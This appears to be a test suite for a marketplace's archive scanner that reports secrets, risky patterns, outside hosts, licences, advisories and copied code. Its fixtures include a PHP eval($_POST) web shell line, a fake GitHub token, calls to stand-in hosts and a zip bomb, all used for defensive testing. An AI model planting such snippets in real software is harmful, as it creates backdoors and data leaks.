import { randomBytes } from 'node:crypto';
import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { removeOwnVersion } from '../../contract/market/listings';
import * as contract from '../../contract/market/passport/passports';
import { getListing } from '../../contract/market/public/listings';
import { decideProductVersion } from '../../contract/market/resources/productVersions';
import { loadAdvisories } from '../../server/market/passport/advisories/loadAdvisories';
import { keyPath } from '../../server/platform/files/storage';
import { craftedZip } from '../fixtures/craftedZip';
import { sourceOffer } from '../fixtures/offers';
import { addPerson, callFrom, type Person } from '../fixtures/people';
import { type ArchiveFiles, addArchive } from '../fixtures/sourceArchive';
import { call, startTestApp, type TestApp } from '../fixtures/testApp';

let test: TestApp;
let ann: Person;
let seller: Person;
beforeAll(async () => {
    test = await startTestApp();
    ann = await addPerson(test, 'admin');
    seller = await addPerson(test, 'user');
});
afterAll(() => test.close());

type Which = { id: string; version: string };
const own = (params: Which, by = seller) => callFrom(test, by, contract.getOwnPassport, { params });
const reviewed = (params: Which, by = ann) =>
    callFrom(test, by, contract.getProductPassport, { params });
const scanned = async (files: ArchiveFiles | Buffer, by = seller) => {
    const added = await addArchive(test, by, files);
    await test.stores.codePassports.scanDue();
    return { id: added.id, version: added.version };
};
/** On sale, whatever else its draft may lack. */
const onSale = async ({ id, version }: Which) => {
    await callFrom(test, ann, decideProductVersion, {
        params: { id, version },
        body: { isApproved: true, reason: '' },
    });
    await test.stores.db
        .updateTable('products')
        .set({ state: 'listed', published_at: test.now })
        .where('id', '=', id)
        .execute();
};
const publicOf = async (id: string) => (await call(test, getListing, { params: { id } })).data;

const token = `ghp_${randomBytes(18).toString('hex')}`;
const bad: ArchiveFiles = {
    'src/hidden-place.php': `<?php\n$key = '${token}';\neval($_POST['x']);\n`,
    'src/call.js': 'fetch("https://k3y.api.shop-host.cn/v1")',
    LICENSE: 'GNU GENERAL PUBLIC LICENSE Version 3',
    'package-lock.json': '{"packages":{"node_modules/left":{"version":"1.0.0"}}}',
    'package.json': '{"license":"SEE LICENSE IN hidden-place.php"}',
    'composer.json': '{"license":"Certified-by-the-market"}',
    'src/send.php': '<?php file_get_contents("http://203.0.113.7/up");',
    'src/home.php': '<?php $home = "https://mention.cn";',
};

describe('the passport of an archive', () => {
    it('waits until it was looked at, and then says what is in it', async () => {
        const added = await addArchive(test, seller, bad);
        const which = { id: added.id, version: added.version };
        expect((await own(which)).data).toMatchObject({ state: 'waiting', facts: null });
        expect(
            (await callFrom(test, seller, contract.scanOwnVersion, { params: which })).status,
        ).toBe(409);
        await test.stores.codePassports.scanDue();
        const { data } = await own(which);
        expect(data).toMatchObject({
            state: 'done',
            failure: null,
            sha256: added.sha256,
            scannedAt: test.now,
            conflicts: [{ rule: 'copyleft', licences: ['GPL-3.0'] }],
            advisories: null,
        });
        expect(data.facts?.secrets).toMatchObject([
            { kind: 'github', path: 'src/hidden-place.php', line: 2, masked: 'ghp_… (40)' },
        ]);
        expect(data.facts?.patterns).toMatchObject([{ rule: 'php_request', line: 3 }]);
    });

    it('has nowhere what is secret, nor a digest that somebody could try values by', async () => {
        const which = await scanned(bad);
        const told = [
            JSON.stringify((await own(which)).data),
            JSON.stringify((await reviewed(which)).data),
        ];
        const rows = await test.stores.db.selectFrom('code_passports').selectAll().execute();
        const entries = await test.stores.db.selectFrom('audit_log').selectAll().execute();
        const { createHash } = await import('node:crypto');
        const digest = createHash('sha256').update(token).digest('hex');
        for (const text of [...told, JSON.stringify(rows), JSON.stringify(entries)]) {
            expect(text).not.toContain(token.slice(4, 16));
            expect(text).not.toContain(digest.slice(0, 16));
        }
    });

    it('is its seller’s and the reviewers’ alone', async () => {
        const which = await scanned(bad);
        const buyer = await addPerson(test, 'user');
        expect((await own(which, buyer)).status).toBe(404);
        expect((await reviewed(which, buyer)).status).toBe(403);
        expect((await own(which, ann)).status).toBe(404);
        expect((await call(test, contract.getOwnPassport, { params: which })).status).toBe(403);
        // neither another listing's version under one's own
        const other = await scanned({ 'a.js': 'a()' }, buyer);
        expect((await own({ id: other.id, version: which.version }, buyer)).status).toBe(404);
        const build = { params: which, body: { recipe: 'x', log: '' } };
        expect((await callFrom(test, buyer, contract.describeBuild, build)).status).toBe(404);
        expect(
            (await callFrom(test, buyer, contract.scanOwnVersion, { params: which })).status,
        ).toBe(404);
    });

    it('tells everybody counts, and nothing that says where or what', async () => {
        const which = await scanned(bad);
        await onSale(which);
        const { passport } = await publicOf(which.id);
        expect(passport).toMatchObject({
            state: 'done',
            semver: '1.0.0',
            summary: {
                files: 8,
                licences: ['GPL-3.0-or-later'],
                otherLicences: 2,
                conflicts: ['copyleft'],
                secrets: 1,
                patterns: { high: 1, medium: 0, low: 0 },
                hosts: ['shop-host.cn', '203.0.113.7'],
                hostCount: 2,
                mentioned: 1,
                packages: 1,
                advisories: null,
            },
        });
        const text = JSON.stringify(await publicOf(which.id));
        for (const word of [
            'hidden-place',
            'ghp_',
            'k3y',
            'github',
            'php_request',
            'Certified',
            'mention.cn',
            'masked',
            '"line"',
        ]) {
            expect([word, text.includes(word)]).toEqual([word, false]);
        }
    });

    it('says where buyers may get another archive, because the seller hands it over by hand', async () => {
        const which = await scanned({ 'a.js': 'a()' });
        await onSale(which);
        const deliver = (delivery: string) =>
            test.stores.db
                .updateTable('products')
                .set({ details: JSON.stringify({ ...sourceOffer().details, delivery }) })
                .where('id', '=', which.id)
                .execute();
        await deliver('manual');
        expect((await publicOf(which.id)).passport?.isDelivered).toBe(false);
        await deliver('auto');
        expect((await publicOf(which.id)).passport?.isDelivered).toBe(true);
    });

    it('is of the very archive: with other bytes or another digest there is none', async () => {
        const which = await scanned({ 'a.js': 'a()' });
        await onSale(which);
        expect((await publicOf(which.id)).passport).not.toBeNull();
        const set = (sha256: string) =>
            test.stores.db
                .updateTable('product_versions')
                .set({ sha256 })
                .where('id', '=', which.version)
                .execute();
        await set('0'.repeat(64));
        expect((await publicOf(which.id)).passport).toBeNull();
        expect((await own(which)).data.facts).toBeNull();
    });

    it('fails for bytes that are not those of the digest', async () => {
        const added = await addArchive(test, seller, {
            'a.js': `b(${randomBytes(4).toString('hex')})`,
        });
        const path = join(test.config.DATA_DIR, 'files', keyPath(added.sha256));
        await writeFile(path, craftedZip([{ name: 'other.js', content: 'c()' }]));
        await test.stores.codePassports.scanDue();
        const { data } = await own({ id: added.id, version: added.version });
        expect(data.state).toBe('failed');
        expect(data.facts).toBeNull();
    });

    it('says why it failed, and the listing goes on being sold', async () => {
        const bomb = craftedZip([{ name: 'bomb', content: Buffer.alloc(1_000_000) }]);
        const which = await scanned(bomb);
        expect((await own(which)).data).toMatchObject({
            state: 'failed',
            failure: 'ratio',
            facts: null,
        });
        await onSale(which);
        const { passport, versions } = await publicOf(which.id);
        expect(passport).toMatchObject({ state: 'failed', failure: 'ratio', summary: null });
        expect(versions).toHaveLength(1);
        expect((await own(await scanned(Buffer.from('no archive')))).data.failure).toBe('not_zip');
    });

    it('is made anew when somebody asks, and after a server ended with it three times is not', async () => {
        const which = await scanned({ 'a.js': 'a()' });
        const again = await callFrom(test, ann, contract.scanProductVersion, { params: which });
        expect(again.data.state).toBe('waiting');
        const set = (row: { state: string; tries: number; leased_until: number }) =>
            test.stores.db
                .updateTable('code_passports')
                .set(row)
                .where('version_id', '=', which.version)
                .execute();
        // another server is at it
        await set({ state: 'scanning', tries: 1, leased_until: test.now + 1 });
        await test.stores.codePassports.scanDue();
        expect((await own(which)).data.state).toBe('scanning');
        test.now += 2;
        await test.stores.codePassports.scanDue();
        expect((await own(which)).data.state).toBe('done');
        await set({ state: 'scanning', tries: 3, leased_until: 0 });
        await test.stores.codePassports.scanDue();
        expect((await own(which)).data).toMatchObject({ state: 'failed', failure: 'died' });
    });

    it('waits behind one archive of another seller, however many they have scanned again', async () => {
        const scans: Which[] = [];
        for (const at of [1, 2, 3]) scans.push(await scanned({ 'a.js': `a(${at})` }));
        test.now += 1_000;
        const other = await addPerson(test, 'user');
        const late = await addArchive(test, other, { 'a.js': 'b()' });
        const fresh = await addArchive(test, seller, { 'a.js': 'c()' });
        await test.stores.codePassports.scanDue();
        const change = (row: { scanned_at: null } | { state: string }, of: Which[]) =>
            test.stores.db
                .updateTable('code_passports')
                .set(row)
                .where(
                    'version_id',
                    'in',
                    of.map(({ version }) => version),
                )
                .execute();
        await change({ scanned_at: null }, [late, fresh]);
        const order: string[] = [];
        const { storage } = test.stores.library;
        const read = vi.spyOn(storage, 'read').mockImplementation(async sha256 => {
            order.push(sha256);
            return undefined;
        });
        // all at once: the server also looks by itself every few seconds
        await change({ state: 'waiting' }, [...scans, late, fresh]);
        await test.stores.codePassports.scanDue();
        read.mockRestore();
        expect(order.slice(0, 2)).toContain(late.sha256);
        expect(order.slice(0, 2)).toContain(fresh.sha256);
        expect(order).toHaveLength(5);
    });

    it('goes with its version', async () => {
        const which = await scanned({ 'a.js': 'a()' });
        await callFrom(test, seller, removeOwnVersion, { params: which });
        for (const table of ['code_passports', 'passport_prints'] as const) {
            const rows = await test.stores.db
                .selectFrom(table)
                .select('version_id')
                .where('version_id', '=', which.version)
                .execute();
            expect(rows).toEqual([]);
        }
    });
});

const shop = (name: string, parts = 60) =>
    `<?php\nclass ${name} {\n${Array.from(
        { length: parts },
        (_, at) =>
            `function ${name}_${at}($a, $b) { if ($a > ${at}) { return $b ${'+-*/'[at % 4]} $a${'[0]'.repeat(at % 7)}; } foreach ($b as $c) { ${'$c++;'.repeat(at % 5)} } }`,
    ).join('\n')}\n}`;

describe('an archive that was sold before', () => {
    it('is found under other names, in one of another seller that came first', async () => {
        const first = await scanned({ 'shop.php': shop('basket') });
        test.now += 1_000;
        const thief = await addPerson(test, 'user');
        const copy = await scanned(
            {
                'x/renamed.php': shop('kart').replaceAll('\n', '\n// mine\n'),
                'new.js': 'let a = 1;',
            },
            thief,
        );
        const { data } = await reviewed(copy);
        expect(data.similar).toMatchObject([{ productId: first.id, percent: 100, isSame: false }]);
        // its seller is told nothing: pieces of code could be tried on others' archives
        const told = JSON.stringify((await own(copy, thief)).data);
        expect(told).not.toContain(first.id);
        expect(told).not.toContain('similar');
        // nobody is refused for it, and the first is not told of the copy
        await onSale(copy);
        expect(JSON.stringify((await publicOf(copy.id)).passport)).not.toContain('similar');
        await callFrom(test, ann, contract.scanProductVersion, { params: first });
        await test.stores.codePassports.scanDue();
        expect((await reviewed(first)).data.similar).toEqual([]);
    });

    it('is found by its bytes, and is none of the seller’s own or of other code', async () => {
        const files = { 'read.txt': randomBytes(20).toString('hex') };
        const first = await scanned(files);
        test.now += 1_000;
        expect((await reviewed(await scanned(files))).data.similar).toEqual([]);
        test.now += 1_000;
        const copy = await scanned(files, await addPerson(test, 'user'));
        expect((await reviewed(copy)).data.similar[0]).toMatchObject({
            productId: first.id,
            isSame: true,
        });
        const other = {
            'a.php': `<?php ${'$x = array($y, [1, $z->f()]); while (g()) { unset($x); }\n'.repeat(80)}`,
        };
        expect(
            (await reviewed(await scanned(other, await addPerson(test, 'user')))).data.similar,
        ).toEqual([]);
    });
});

describe('what is said of packages and of the build', () => {
    it('is by the operator’s list, with its date', async () => {
        const path = join(test.folder, 'osv.json');
        await writeFile(
            path,
            JSON.stringify({
                id: 'GHSA-9',
                modified: '2026-05-01T00:00:00Z',
                affected: [
                    {
                        package: { ecosystem: 'npm', name: 'left' },
                        ranges: [
                            { type: 'SEMVER', events: [{ introduced: '0' }, { fixed: '1.1.0' }] },
                        ],
                    },
                ],
            }),
        );
        await loadAdvisories(test.config.DATA_DIR, [path], test.now);
        const which = await scanned(bad);
        expect((await own(which)).data.advisories).toMatchObject({
            published: Date.parse('2026-05-01T00:00:00Z'),
            checked: 1,
            matches: [{ id: 'GHSA-9', name: 'left', version: '1.0.0', fixed: '1.1.0' }],
        });
        await onSale(which);
        expect((await publicOf(which.id)).passport?.summary?.advisories).toEqual({
            published: Date.parse('2026-05-01T00:00:00Z'),
            checked: 1,
            affected: 1,
        });
    });

    it('is the seller’s own word of the build, with no secret in it', async () => {
        const which = await scanned({ 'a.js': 'a()' });
        const say = (recipe: string, log: string) =>
            callFrom(test, seller, contract.describeBuild, {
                params: which,
                body: { recipe, log },
            });
        const refused = await say(`TOKEN=${token}`, '');
        expect(refused).toMatchObject({ status: 422, errors: { recipe: 'passport.secret' } });
        expect((await say('npm ci', `deploy with ${token}`)).errors).toEqual({
            log: 'passport.secret',
        });
        expect((await own(which)).data.build).toEqual({ recipe: '', log: '' });
        expect((await say('npm ci\nnpm run build', '<b>done</b>')).status).toBe(200);
        await onSale(which);
        expect((await publicOf(which.id)).passport?.build).toEqual({
            recipe: 'npm ci\nnpm run build',
            log: '<b>done</b>',
        });
        // what was approved stays what everybody reads
        expect(await say('Write to me before you buy', '')).toMatchObject({
            status: 409,
            error: 'passport.approved',
        });
        expect((await own(which)).data.mayDescribeBuild).toBe(false);
        expect((await publicOf(which.id)).passport?.build.recipe).toBe('npm ci\nnpm run build');
    });
});
